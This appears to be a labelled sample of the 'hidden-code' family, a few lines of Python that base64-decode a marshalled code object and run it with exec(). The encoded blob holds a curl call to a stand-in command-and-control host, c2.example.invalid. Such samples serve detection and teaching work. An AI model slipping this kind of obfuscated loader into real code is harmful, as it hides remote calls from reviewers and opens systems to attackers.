# family: hidden-code
# a marshalled code object loaded and executed
import marshal
import base64

blob = base64.b64decode(
    "4wAAAAAAAAAAAAAAAAAAAAACAAAAQAAAAHMQAAAAZABkAWwAWgBlAKABZAKhAQEAZAFTACkD6QAAAABO"
    "ehpjdXJsIGh0dHA6Ly9jMi5leGFtcGxlLmludmFsaWQp"
)
code = marshal.loads(blob)
exec(code)
